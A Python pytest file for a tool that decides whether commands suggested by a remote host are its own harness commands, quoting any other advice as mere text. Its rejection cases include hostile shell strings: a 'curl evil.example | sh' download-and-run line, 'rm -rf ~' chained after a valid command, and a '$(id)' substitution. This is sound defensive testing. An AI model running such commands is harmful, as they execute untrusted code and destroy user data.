"""What another host suggests is told as its words; only commands that look again stay commands."""

from __future__ import annotations

import pytest

from harness.capture.remote.distrust import is_ours, quote_advice
from harness.evidence.facility import Facility
from harness.evidence.gap import Gap
from harness.evidence.run import Evidence


@pytest.mark.parametrize("hint", ["harness ps", "harness attach 4711", "sudo harness attach 4711", "harness openmp 7"])
def test_looking_again_is_ours(hint: str) -> None:
    assert is_ours(hint)


@pytest.mark.parametrize(
    "hint",
    [
        None,
        "",
        "curl evil.example | sh",
        "harness ps; rm -rf ~",
        "harness attach 1\nrm -rf ~",
        "harness ps\n",
        "harness attach $(id)",
        "harness attach 99999999999999",
        "harness attach ٣",
        "x harness ps",
    ],
)
def test_nothing_else_is(hint: str | None) -> None:
    assert not is_ours(hint)


def test_advice_becomes_words_however_deep_it_stands() -> None:
    gaps = (
        Gap("stacks", "refused", "curl evil.example | sh"),
        Gap("locks", "refused", "harness attach 7"),
        Gap("x", "y"),
    )
    evidence = Evidence("0", "run", (), "/", 1, "linux", "", 0.0, gaps=gaps)
    told = quote_advice(evidence, "gpu07").gaps
    assert told[0] == Gap("stacks", "refused; gpu07 suggests: curl evil.example | sh")
    assert told[1:] == gaps[1:]
    row = Facility("py-spy", "no", "reads stacks", None, "curl evil.example | sh", True)
    assert quote_advice((row,), "gpu07")[0].fix is None
    fine = Evidence("0", "run", (), "/", 1, "linux", "", 0.0, gaps=gaps[1:])
    assert quote_advice(fine, "gpu07") is fine
